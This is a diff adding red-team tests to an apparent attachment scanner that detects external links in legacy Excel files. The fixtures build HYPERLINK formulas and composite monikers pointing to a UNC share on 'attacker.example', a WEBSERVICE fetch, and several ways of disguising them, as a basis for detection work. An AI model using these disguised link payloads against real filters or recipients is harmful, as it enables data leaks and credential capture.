@@ -11,7 +11,7 @@ import pytest
 from attachguard.codes import CORRUPT, ENCRYPTED, EXTERNAL_LINK, Code
 from attachguard.engines.base import Item, Result
 from attachguard.engines.office import OfficeEngine
-from attachguard.formats import ole
+from attachguard.formats import biffsheets, ole
 from attachguard.formats.biffsheets import CellLink
 from attachguard.policy import Policy
 from attachguard.report import FileType
@@ -274,3 +274,135 @@ def test_encrypted_sheets_are_not_read(policy: Policy) -> None:
     filepass = record(0x002F, struct.pack("<HHH", 0, 0x1234, 0x5678))
     data = xls(workbook(hyperlink_formula(SHARE), names=(filepass,)))
     assert [code for code, _ in found(data, policy)] == [ENCRYPTED]
+
+
+# -- red team 73: tokens, names, monikers, substreams ------------------------------------------
+
+ITEM_MONIKER = uuid.UUID("00000304-0000-0000-C000-000000000046").bytes_le
+COMPOSITE_MONIKER = uuid.UUID("00000309-0000-0000-C000-000000000046").bytes_le
+ARRAY = bytes([0x60]) + bytes(7)  # PtgArray: its values follow the formula
+
+
+def defined_name(name: str, *tokens: bytes, options: int = 0) -> bytes:
+    """A NAME record (BIFF8) standing for the formula ``tokens``."""
+    rgce = b"".join(tokens)
+    head = struct.pack("<HBBHHHI", options, 0, len(name), len(rgce), 0, 0, 0)
+    return record(0x0018, head + b"\0" + name.encode() + rgce)
+
+
+def name_ref(index: int) -> bytes:
+    return struct.pack("<BHH", 0x43, index, 0)  # PtgName (value class)
+
+
+def item_moniker(item: str, delimiter: str = "\\") -> bytes:
+    parts = [(delimiter + "\0").encode(), (item + "\0").encode()]
+    return ITEM_MONIKER + b"".join(struct.pack("<I", len(p)) + p for p in parts)
+
+
+def composite(*monikers: bytes) -> bytes:
+    return COMPOSITE_MONIKER + struct.pack("<I", len(monikers)) + b"".join(monikers)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        formula(text(SHARE), ARRAY, call(HYPERLINK, 2)),  # =HYPERLINK("\\...",{1})
+        formula(text(SHARE), b"\x15", call(HYPERLINK, 1)),  # =HYPERLINK(("\\..."))
+        formula(text(SHARE), struct.pack("<BH", 0x41, 118), call(HYPERLINK, 1)),  # TRIM
+        formula(text("\\"), text("\\attacker.example\\s\\x.xls"), b"\x08", call(HYPERLINK, 1)),
+        formula(text(SHARE), struct.pack("<BH", 0x41, 359)),  # unreadable: its text judged
+    ],
+    ids=["array-argument", "parentheses", "trim", "joined", "unknown-token"],
+)
+def test_hyperlink_address_however_spelt(cell: bytes, policy: Policy) -> None:
+    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+def test_a_defined_name_is_read_where_it_is_used(policy: Policy) -> None:
+    # =HYPERLINK(Target), Target standing for "\\attacker.example\..."
+    names = (defined_name("Target", text(SHARE)),)
+    cell = formula(name_ref(1), call(HYPERLINK, 1))
+    assert found(xls(workbook(cell, names=names)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
+
+
+def test_a_defined_names_own_formula_is_judged(policy: Policy) -> None:
+    # Rate = _xlfn.WEBSERVICE("https://..."), a cell =Rate (or no cell at all)
+    function = "_xlfn.WEBSERVICE"
+    names = (
+        defined_name(function, options=0x0E),
+        defined_name("Rate", name_ref(1), text("https://attacker.example/r"), call(255, 2)),
+    )
+    data = xls(workbook(formula(name_ref(2)), names=names))
+    assert found(data, policy) == [(EXTERNAL_LINK, FETCHING)]
+
+
+def test_names_that_use_one_another_are_read_once(policy: Policy) -> None:
+    # A = B & B, B = A & "x": a loop, read as far as it goes
+    names = (
+        defined_name("A", name_ref(2), name_ref(2), b"\x08"),
+        defined_name("B", name_ref(1), text("x"), b"\x08"),
+    )
+    cell = formula(name_ref(1), call(HYPERLINK, 1))
+    assert found(xls(workbook(cell, names=names)), policy) == []
+    [book] = ole.read_workbooks(xls(workbook(cell, names=names)))
+    assert book.problems == ()
+
+
+@pytest.mark.parametrize(
+    "moniker",
+    [
+        composite(file_moniker("\\\\"), file_moniker("attacker.example\\share\\x.xls")),
+        composite(file_moniker("x", unicode="\\\\\u00e4ttacker.example\\share\\x.xls")),
+        composite(file_moniker("\\\\attacker.example"), item_moniker("share\\x.xls")),
+    ],
+    ids=["file-file", "unicode-path", "file-item"],
+)
+def test_composite_moniker_to_a_share(moniker: bytes, policy: Policy) -> None:
+    assert found(xls(workbook(hlink(moniker))), policy) == [(EXTERNAL_LINK, IN_A_HYPERLINK)]
+
+
+@pytest.mark.parametrize(
+    "moniker",
+    [
+        composite(url_moniker("https://example.com/book.xls"), item_moniker("Sheet1!A1", "#")),
+        composite(file_moniker("C:\\invoices"), file_moniker("march.xls")),
+    ],
+    ids=["url-item", "local-file-file"],
+)
+def test_honest_composite_monikers_pass(moniker: bytes, policy: Policy) -> None:
+    assert found(xls(workbook(hlink(moniker))), policy) == []
+
+
+def test_a_moniker_of_an_unknown_class_is_a_problem() -> None:
+    # Office may resolve a class this reader does not know: readers take it differently
+    unknown = uuid.UUID("00000308-0000-0000-C000-000000000046").bytes_le + bytes(8)
+    problems: list[str] = []
+    records = [(0x01B8, hlink(composite(unknown))[4:]), (0x01B8, hlink(unknown)[4:])]
+    assert biffsheets.links(records, 8, biffsheets.Names(), problems) == set()
+    assert problems == [biffsheets.UNREAD_HYPERLINK] * 2
+    assert "which readers take differently" in biffsheets.UNREAD_HYPERLINK
+    honest: list[str] = []
+    biffsheets.links([(0x01B8, hlink(url_moniker("https://x.example"))[4:])], 8, biffsheets.Names(),
+                     honest)  # fmt: skip
+    assert honest == []
+
+
+def test_a_substream_no_sheet_points_at() -> None:
+    stream = workbook(hyperlink_formula("https://example.com"))
+    hidden = len(stream)
+    stream += record(0x0809, bytes(16)) + hyperlink_formula(SHARE) + record(0x000A)
+    [book] = ole.read_workbooks(xls(stream))
+    assert biffsheets.unpointed(stream, [s.position for s in book.sheets]) == [hidden]
+    assert biffsheets.unpointed(stream[:hidden], [s.position for s in book.sheets]) == []
+
+
+def test_hyperlink_to_a_cell_is_not_followed(policy: Policy) -> None:
+    # =HYPERLINK(B1): the address is computed, and honest workbooks link web pages so
+    label = record(0x0204, struct.pack("<HHHH", 0, 1, 15, len(SHARE)) + b"\0" + SHARE.encode())
+    cell = formula(struct.pack("<BHH", 0x44, 0, 0xC001), call(HYPERLINK, 1))
+    assert found(xls(workbook(cell, label)), policy) == []
+
+
+def test_honest_array_argument_passes(policy: Policy) -> None:
+    cell = formula(text("https://example.com/a"), ARRAY, call(HYPERLINK, 2))
+    assert found(xls(workbook(cell)), policy) == []
